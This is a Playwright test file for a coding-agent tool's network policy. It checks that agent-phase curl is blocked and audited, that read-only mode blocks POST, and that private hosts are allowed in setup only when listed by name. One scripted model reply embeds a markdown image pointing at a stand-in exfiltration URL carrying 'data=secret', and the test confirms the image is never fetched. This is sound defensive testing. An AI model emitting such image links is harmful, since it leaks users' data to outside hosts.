import { expect, test, type Page } from '@playwright/test';
import { configure, createEnvironment, modelScript, peer, screenshot } from './peers.ts';

/** Setup in the environment editor's Test, on Lite; resolves once it is over. */
async function testSetup(page: Page) {
	await page.getByLabel('Runtime').selectOption('lite');
	await page.getByRole('button', { name: 'Test environment' }).click();
	await expect(
		page.getByTestId('environment-ready').or(page.getByTestId('environment-failed'))
	).toBeVisible();
}

/** A Lite environment whose setup script fetches from a local peer. */
async function run(page: Page, prompt: string) {
	await page.getByRole('navigation').getByRole('link', { name: 'Tasks' }).click();
	await page.getByRole('textbox', { name: 'Task' }).fill(prompt);
	await page.getByRole('button', { name: 'Code', exact: true }).click();
	await expect(page.getByTestId('final')).toBeVisible();
}

test.describe('Network policy', () => {
	test('off in the agent phase: curl is blocked and audited; the same request passed during setup', async ({
		page
	}) => {
		const target = `${peer('github')}/repos/acme/empty-ish`;
		const outside = 'https://exfil.example.com/leak.png?data=secret';
		const requested: string[] = [];
		page.on('request', (request) => requested.push(request.url()));
		const { baseURL } = await modelScript({
			turns: [
				{
					expect: { systemContains: 'Network access is off' },
					toolCalls: [{ name: 'shell', arguments: { command: `curl -sS ${target}` } }]
				},
				{
					expect: {
						lastMessage: {
							role: 'tool',
							contains: 'Blocked by Patchbay network policy: network off'
						}
					},
					content: `The network is off, so I could not fetch it. ![status](${outside})`
				}
			]
		});
		await configure(page, { modelBaseURL: baseURL, model: 'scripted-model' });
		// The peer is on 127.0.0.1: setup reaches it because it is listed by name.
		await createEnvironment(page, 'acme/empty-ish', {
			setupScript: `curl -sS ${target}`,
			domains: '127.0.0.1'
		});
		await run(page, 'Fetch the repository metadata');

		await expect(page.getByTestId('network-phase')).toContainText('Network access is off');
		const panel = page.getByTestId('network-panel');
		await expect(panel.getByTestId('network-summary')).toHaveText('2 requests · 1 blocked');
		const rows = panel.locator('tbody tr');
		await expect(rows.nth(0)).toContainText('agent');
		await expect(rows.nth(0)).toContainText('blocked: network off');
		await expect(rows.nth(1)).toContainText('setup');
		await expect(rows.nth(1)).toContainText('allowed: allowed domain: 127.0.0.1');
		await expect(page.getByTestId('final')).toContainText(outside);
		await expect(page.getByTestId('blocked-count')).toHaveText('1 network request blocked');
		expect(requested.filter((url) => url.includes('exfil.example.com'))).toEqual([]);
		await screenshot(page, 'network-off');
	});

	test('127.0.0.1 allowed read-only: GET succeeds, POST is blocked', async ({ page }) => {
		const target = `${peer('github')}/repos/acme/empty-ish`;
		const { baseURL } = await modelScript({
			turns: [
				{ toolCalls: [{ name: 'shell', arguments: { command: `curl -sS ${target}` } }] },
				{
					expect: { lastMessage: { role: 'tool', contains: '"full_name":"acme/empty-ish"' } },
					toolCalls: [
						{
							name: 'shell',
							arguments: { command: `curl -sS -X POST -d '{}' ${peer('github')}/user/repos` }
						}
					]
				},
				{
					expect: {
						lastMessage: { role: 'tool', contains: 'method POST not allowed (read-only)' }
					},
					content: 'GET worked, POST was refused.'
				}
			]
		});
		await configure(page, { modelBaseURL: baseURL, model: 'scripted-model' });
		await createEnvironment(page, 'acme/empty-ish', {
			setupScript: '',
			access: { domains: '127.0.0.1', methods: 'read' }
		});
		await run(page, 'Read and then try to write');
		const panel = page.getByTestId('network-panel');
		await expect(panel.getByTestId('network-summary')).toHaveText('2 requests · 1 blocked');
		await expect(panel.locator('tbody tr').nth(0)).toContainText('POST');
		await expect(panel.locator('tbody tr').nth(0)).toContainText(
			'blocked: method POST not allowed (read-only)'
		);
		await expect(panel.locator('tbody tr').nth(1)).toContainText(
			'allowed: allowed domain: 127.0.0.1'
		);
		await panel.getByLabel('blocked').check();
		await expect(panel.locator('tbody tr')).toHaveCount(1);
	});

	test("setup's network is the internet: a local host only when listed by name", async ({
		page
	}) => {
		const target = `${peer('github')}/repos/acme/empty-ish`;
		await configure(page, {});
		await page.goto('/#/environments/new');
		await page.getByLabel('Repository').fill('acme/empty-ish');
		await page.getByRole('button', { name: 'Look up' }).click();
		await expect(page.getByText('1 branch · public')).toBeVisible();
		await page.getByLabel('Setup script').fill(`curl -sSf ${target}`);
		await expect(page.getByTestId('domains-hint')).toHaveText(
			'One hostname per line; a domain also allows its subdomains. Your own machine and network ' +
				'(localhost, 127.0.0.1, 10.x, 192.168.x, *.local, …) are never part of "the internet": ' +
				'setup and "Any host" reach them only when they are listed here by name. With the agent ' +
				'offline, this list serves setup alone.'
		);
		await testSetup(page);
		const failed = page.getByTestId('environment-failed');
		await expect(failed).toHaveAttribute('data-code', 'setup-failed');
		await expect(page.getByTestId('environment-test')).toContainText(
			'Blocked by Patchbay network policy: local or private address not listed: 127.0.0.1'
		);

		await page.getByLabel('Extra domains').fill('127.0.0.1');
		await screenshot(page, 'network-setup-local-listed');
		await testSetup(page);
		await expect(page.getByTestId('environment-ready')).toBeVisible();
		await expect(page.getByTestId('environment-test')).toContainText(
			'"full_name":"acme/empty-ish"'
		);
		await expect(page.getByTestId('runtime-enforcement')).toContainText(
			'follows the child processes and workers Node starts'
		);

		// With the agent on "Any host", the same list is what that preset may reach locally.
		await page.getByLabel('On', { exact: true }).check();
		await page.getByLabel('Allowed hosts').selectOption('all');
		await expect(page.getByLabel('Extra domains')).toHaveValue('127.0.0.1');
		await expect(page.getByTestId('domains-hint')).not.toContainText('serves setup alone');
		await screenshot(page, 'network-any-host-local-listed');
	});
});
